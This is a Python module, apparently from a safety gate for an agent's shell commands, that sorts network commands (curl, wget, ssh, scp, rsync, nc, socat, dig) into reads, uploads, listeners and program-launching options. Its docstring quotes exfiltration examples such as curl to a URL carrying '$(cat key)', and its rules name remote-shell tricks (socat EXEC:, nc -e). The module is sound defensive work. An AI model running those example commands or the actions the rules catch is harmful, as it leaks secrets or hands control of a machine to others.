"""Network commands: HTTP clients, DNS and ping, raw sockets, ``ssh``, ``scp`` and ``rsync``.

Sending data to another machine is irreversible and leaves it, so it asks;
fetching is a read. Data can also leave in the request itself: a URL or a host
name built at run time (``curl https://x/$(cat key)``, ``dig $(…).example``)
carries whatever the expansion produced, so it asks too. Options that make
these clients run a local program (``ssh -o ProxyCommand``, ``rsync -e``,
``scp -S``, ``curl -K``, ``wget -e``) ask. Downloads are file writes.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable

from exo_core.gate.axes import Finding
from exo_core.gate.filecmd import exec_finding
from exo_core.gate.scope import Scope, url_host
from exo_core.gate.shell import SimpleCommand
from exo_core.gate.targets import Ctx, write_target
from exo_core.gate.vcs import finding

__all__ = ["NET_RULES"]

Rule = Callable[[list[str], SimpleCommand, Ctx], list[Finding]]

_HTTP_SEND = frozenset(
    {
        "-d",
        "--data",
        "--data-raw",
        "--data-binary",
        "--data-urlencode",
        "--json",
        "-F",
        "--form",
        "-T",
        "--upload-file",
        "--post-data",
        "--post-file",
        "--body-data",
        "--body-file",
    }
)
_HTTP_WITH_ARG = _HTTP_SEND | {
    "-H",
    "--header",
    "-u",
    "--user",
    "-A",
    "--user-agent",
    "-e",
    "--referer",
    "-b",
    "--cookie",
    "-c",
    "--cookie-jar",
    "-w",
    "--write-out",
    "-m",
    "--max-time",
    "-x",
    "--proxy",
    "--resolve",
    "-K",
    "--config",
    "--connect-timeout",
    "--retry",
    "-a",
    "--auth",
    "-r",
    "--range",
    "--cacert",
    "--cert",
    "--key",
    "--output-dir",
}
_HTTPIE = frozenset({"http", "https", "xh", "httpie"})
_HTTPIE_FIELD = re.compile(r"^[\w.-]+(==|:=@|:=|=@|=|@)")


def _http(argv: list[str], cmd: SimpleCommand, ctx: Ctx) -> list[Finding]:
    name = argv[0]
    method, urls, out_file = "GET", [], ""
    expanded = False
    i = 1
    while i < len(argv):
        a = argv[i]
        key, has_eq, value = a.partition("=")
        if has_eq and key.startswith("--"):
            nxt, step = value, 1
        elif i + 1 < len(argv):
            nxt, step = argv[i + 1], 2
        else:
            nxt, step = "", 2
        if key in ("-X", "--request", "--method"):
            method = nxt.upper()
        elif key in ("-K", "--config", "-e", "--execute", "--use-askpass") and name in ("curl", "wget"):
            return [exec_finding(f"{name} {key}: options the gate cannot see", "a config file or wgetrc command")]
        elif (
            key in ("-o", "--output", "--output-document")
            and name not in _HTTPIE
            or key == "-O"
            and name == "wget"
            or key in ("-P", "--directory-prefix")
            and name == "wget"
        ):
            out_file = nxt
        elif key in ("-O", "--remote-name") and name not in _HTTPIE:
            out_file, step = out_file or ".", 1
        elif a.startswith("-o") and len(a) > 2 and name == "curl":
            out_file, step = a[2:], 1
        elif name == "wget" and a.startswith("-") and not a.startswith("--") and "O" in a:
            rest = a.split("O", 1)[1]
            out_file, step = (rest, 1) if rest else (nxt, 2)
        elif key == "--url":
            urls.append(nxt)
        elif key in _HTTP_WITH_ARG:
            if key in _HTTP_SEND and method == "GET":
                method = "POST"
        elif a.startswith("-X") and len(a) > 2:
            method, step = a[2:].upper(), 1
        elif a.startswith(("-d", "-F", "-T")) and len(a) > 2:
            method = "POST" if method == "GET" else method
            step = 1
        else:
            step = 1
            field = _HTTPIE_FIELD.match(a) if name in _HTTPIE and urls else None
            if a.startswith("-"):
                pass
            elif field is not None:
                if field.group(1) != "==":  # data fields make httpie send a POST; '==' is a query parameter
                    method = "POST" if method == "GET" else method
            elif name in _HTTPIE and a.isupper() and a.isalpha() and not urls:
                method = a
            elif "://" in a or url_host(a) or cmd.word_is_expanded(i):
                urls.append(a)
                expanded = expanded or cmd.word_is_expanded(i)
        i += step
    if name == "wget" and not out_file:
        out_file = "."
    hosts = [url_host(u) or "" for u in urls] or [""]
    remote = [h for h in hosts if not h or not ctx.scope.local_host(h)]
    writes = out_file and out_file != "-"
    out: list[Finding] = [write_target(out_file, ctx, "download to")] if writes else []
    if method in ("GET", "HEAD", "OPTIONS") and expanded and remote:
        return out + [_dynamic_request(name)]
    if method in ("GET", "HEAD", "OPTIONS"):
        return out + [finding("http.get", f"fetch {urls[0] if urls else 'a URL'}")]
    if remote:
        host = remote[0] or "a host decided at run time"
        return out + [
            finding(
                f"http.{method.lower()}",
                f"HTTP {method} to {host}",
                "irreversible",
                "leaves",
                reason="data sent to another machine cannot be called back",
                destination=host,
            )
        ]
    return out + [
        finding("http.loopback", f"HTTP {method} to {hosts[0]}", "recoverable", reason="stays on this machine")
    ]


_SSH_EXEC = re.compile(
    r"^(proxycommand|localcommand|permitlocalcommand|knownhostscommand|include|match)", re.IGNORECASE
)


def _ssh_options_run_code(argv: list[str]) -> bool:
    for i, a in enumerate(argv):
        if a.startswith("-o") and len(a) > 2:
            value = a[2:]
        elif a == "-o" and i + 1 < len(argv):
            value = argv[i + 1]
        else:
            value = ""
        if value and _SSH_EXEC.match(value.replace(" ", "=")):
            return True
        if a == "-F" or a.startswith("-F") and len(a) > 2:
            return True
    return False


def _ssh(argv: list[str], cmd: SimpleCommand, ctx: Ctx) -> list[Finding]:
    if _ssh_options_run_code(argv):
        return [exec_finding(f"{argv[0]} runs a local command (ProxyCommand, LocalCommand or a config file)")]
    with_arg = set("bcDEeFIiJLlmOopQRSWw")
    i, words = 1, []
    while i < len(argv):
        a = argv[i]
        if a.startswith("-") and len(a) == 2 and a[1] in with_arg:
            i += 2
            continue
        if not a.startswith("-"):
            words.append(a)
        i += 1
    host = words[0].split("@")[-1] if words else ""
    if host and ctx.scope.local_host(host):
        return [finding("ssh.loopback", f"ssh to {host}", "recoverable")]
    base = finding(
        "ssh.remote",
        f"run a command on {host or 'a remote host'}",
        "recoverable",
        "leaves",
        reason="runs on another machine",
        destination=host,
    )
    if len(words) < 2 or ctx.script is None:
        return [base]
    remote = Ctx(Scope(), None, ctx.depth + 1, ctx.script)  # nothing on the other machine is the workspace
    inner = ctx.script(" ".join(words[1:]), remote)
    lifted = [
        Finding(f.key, f.axes.at_least(exposure="leaves"), f"{f.summary} on {host}", f.reason, host) for f in inner
    ]
    return [base, *lifted]


def _remote_copy(argv: list[str], cmd: SimpleCommand, ctx: Ctx) -> list[Finding]:
    name = argv[0]
    out: list[Finding] = []
    if _ssh_options_run_code(argv) or any(a == "-S" for a in argv) and name == "scp":
        out.append(exec_finding(f"{name} runs a local program"))
    paths: list[str] = []
    i = 1
    while i < len(argv):
        a = argv[i]
        key, eq, value = a.partition("=")
        if key in ("-e", "--rsh"):
            if eq:
                shell = value
            else:
                shell = argv[i + 1] if i + 1 < len(argv) else ""
                i += 1
            words = shlex.split(shell) if shell.count("'") % 2 == 0 and shell.count('"') % 2 == 0 else []
            if not words or words[0].rsplit("/", 1)[-1] != "ssh" or _ssh_options_run_code(words):
                out.append(exec_finding(f"{name} -e {shell}: runs a local program"))
        elif key in ("--rsync-path",):
            out.append(exec_finding(f"{name} --rsync-path runs a program on the other side"))
        elif (
            name == "scp"
            and a in ("-P", "-i", "-o", "-F", "-S", "-c", "-l", "-J")
            or name == "rsync"
            and a
            in (
                "-f",
                "--filter",
                "--exclude",
                "--include",
                "--files-from",
                "-T",
                "--temp-dir",
            )
        ):
            i += 1
        elif not a.startswith("-"):
            paths.append(a)
        i += 1
    remote = [p for p in paths if re.match(r"^([\w.-]+@)?[\w.-]+:", p) and not p.startswith("/")]
    if remote and paths and paths[-1] in remote:
        host = paths[-1].split(":")[0].split("@")[-1]
        if not ctx.scope.local_host(host):
            out.append(
                finding(
                    "net.upload",
                    f"copy files to {host}",
                    "irreversible",
                    "leaves",
                    reason="files copied to another machine",
                    destination=host,
                )
            )
    elif paths:
        out.append(write_target(paths[-1], ctx, f"{name} into"))
    if any(a.startswith("--delete") for a in argv):
        out.append(
            finding(
                "file.delete.outside",
                f"{name} --delete",
                "irreversible",
                reason="deletes files missing from the source",
            )
        )
    if "--remove-source-files" in argv:
        out.append(finding("file.delete.outside", f"{name} --remove-source-files", "irreversible"))
    return out or [finding("net.read", name)]


def _dynamic_request(name: str) -> Finding:
    return finding(
        "net.dynamic",
        f"{name} to an address built at run time",
        "irreversible",
        "leaves",
        reason="whatever the expansion produced leaves the machine in the request",
    )


def _dns(argv: list[str], cmd: SimpleCommand, ctx: Ctx) -> list[Finding]:
    if any(cmd.word_is_expanded(i) for i in range(1, len(argv))):
        return [_dynamic_request(argv[0])]
    return [finding("shell.read", argv[0])]


def _net_raw(argv: list[str], cmd: SimpleCommand, ctx: Ctx) -> list[Finding]:
    name = argv[0]
    if name == "sftp" and (_ssh_options_run_code(argv) or "-S" in argv or "-D" in argv):
        return [exec_finding("sftp runs a local program")]
    if name == "openssl" and not set(argv[1:2]) & {"s_client", "s_server"}:
        outputs = [argv[k + 1] for k, a in enumerate(argv[:-1]) if a in ("-out", "-keyout")]
        return [write_target(o, ctx, "openssl writes") for o in outputs] or [finding("shell.read", "openssl")]
    if any(a.upper().startswith(("EXEC:", "SYSTEM:")) for a in argv[1:]) or "-e" in argv or "-c" in argv:
        return [
            finding(
                "net.exec",
                f"{name} connects a program to the network",
                "irreversible",
                "leaves",
                reason="whoever is at the other end drives the program",
            )
        ]
    if any(a == "-l" or a.startswith("-l") and name in ("nc", "ncat", "netcat") or "LISTEN" in a for a in argv[1:]):
        return [
            finding(
                "net.listen",
                f"{name}: listen for connections",
                "irreversible",
                "leaves",
                reason="anyone on the network can connect to it",
            )
        ]
    hosts = [a for a in argv[1:] if not a.startswith("-") and not a.isdigit()]
    host = hosts[0].split("@")[-1].split(":")[0] if hosts else ""
    if name == "socat":
        found = re.search(r"(?:TCP|UDP|SSL|OPENSSL)[46]?:([^:,]+)", " ".join(argv[1:]), re.IGNORECASE)
        host = found.group(1) if found else ""
    if host and ctx.scope.local_host(host):
        return [finding("net.loopback", f"{name} {host}", "recoverable")]
    return [
        finding(
            "net.send",
            f"{name} to {host or 'a remote host'}",
            "irreversible",
            "leaves",
            reason="raw network traffic leaves the machine",
            destination=host,
        )
    ]


def _sender(argv: list[str], cmd: SimpleCommand, ctx: Ctx) -> list[Finding]:
    return [
        finding(
            "net.send",
            f"{argv[0]}: move files to or from another machine",
            "irreversible",
            "leaves",
            reason="a file-transfer client: what it sends cannot be called back",
        )
    ]


NET_RULES: dict[str, Rule] = {
    **{n: _http for n in ("curl", "wget", "http", "https", "xh", "httpie", "aria2c")},
    **{n: _dns for n in ("dig", "nslookup", "host", "ping", "ping6", "traceroute", "tracepath", "whois", "mtr")},
    **{n: _dns for n in ("drill", "arping")},
    **{n: _net_raw for n in ("nc", "ncat", "netcat", "socat", "telnet", "ftp", "lftp", "sftp", "tftp", "openssl")},
    **{n: _sender for n in ("rclone", "gsutil", "azcopy", "s3cmd", "mc", "smbclient", "croc", "wormhole")},
    **{n: _sender for n in ("websocat", "wscat", "magic-wormhole", "ncftp", "curlftpfs", "sshfs")},
    "ssh": _ssh,
    "mosh": _ssh,
    "scp": _remote_copy,
    "rsync": _remote_copy,
}
